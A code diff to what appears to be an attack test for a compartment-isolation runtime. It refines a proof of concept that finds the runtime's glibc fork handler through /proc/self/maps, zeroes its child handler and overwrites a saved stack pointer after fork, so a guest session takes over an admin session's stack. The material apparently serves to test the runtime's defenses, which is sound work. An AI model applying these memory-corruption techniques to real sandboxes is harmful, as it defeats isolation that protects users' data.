@@ -11,7 +11,7 @@
 // the fork the attacker finds the runtime's entry in glibc's fork handler
 // list (libc's writable memory, from /proc/self/maps: a struct
 // fork_handler {prepare, parent, child, dso_handle} whose dso_handle is the
-// executable's and whose only handler is the child's) and stores 0 over
+// executable's: the runtime's, runtime/fork.c) and stores 0 over
 // its child handler. In the child, a new thread (thread 2's fs base,
 // recycled by glibc) enters vault_session as a guest; in its call out the
 // attacker stores thread 2's saved stack pointer over its own. Back "in
@@ -79,6 +79,17 @@ BULKHEAD_ENTRY(vault) int vault_session(int admin, void (*wait)(int)) {
   return 0;
 }
 
+/* The guest's way in, deeper on the vault's stack, as in
+ * attacks-rev67a-fork-recycled-fs-base.c: the child may give the guest
+ * thread 2's started-over stack, where at thread 2's depth the stored
+ * pointer would be the guest's own call out's record. */
+BULKHEAD_ENTRY(vault) int vault_guest(void (*wait)(int)) {
+  volatile char pad[512];
+  pad[0] = 0;
+  int r = vault_session(0, wait);
+  return r + pad[0];
+}
+
 /* The call out's frame (abi.h, BH_FRAME_*) lies above the return address
  * into the trampoline: its saved stack pointer at frame + 40. */
 __attribute__((noinline)) static void wait_outside(int admin) {
@@ -103,13 +114,14 @@ static void *admin_thread(void *unused) {
 
 static void *guest_thread(void *unused) {
   (void)unused;
-  vault_session(0, wait_outside);
+  vault_guest(wait_outside);
   return NULL;
 }
 
 /* The runtime's entry in glibc's list of atfork handlers: in libc's
  * writable mappings (its data and the anonymous .bss after it), the words
- * {prepare 0, parent 0, child, dso_handle the executable's}. */
+ * {prepare, parent, child, dso_handle the executable's} (runtime/fork.c
+ * registers all three). */
 static uintptr_t *find_handler(void) {
   FILE *f = fopen("/proc/self/maps", "r");
   char line[512];
@@ -124,7 +136,7 @@ static uintptr_t *find_handler(void) {
     int anon = !strchr(line, '/') && !strchr(line, '[');
     if (!strcmp(perms, "rw-p") && (libc || (anon && after_libc)))
       for (uintptr_t *w = (uintptr_t *)lo; w + 4 <= (uintptr_t *)hi; w++)
-        if (!w[0] && !w[1] && w[2] && w[3] == (uintptr_t)&__dso_handle) {
+        if (w[0] && w[1] && w[2] && w[3] == (uintptr_t)&__dso_handle) {
           found = w;
           break;
         }
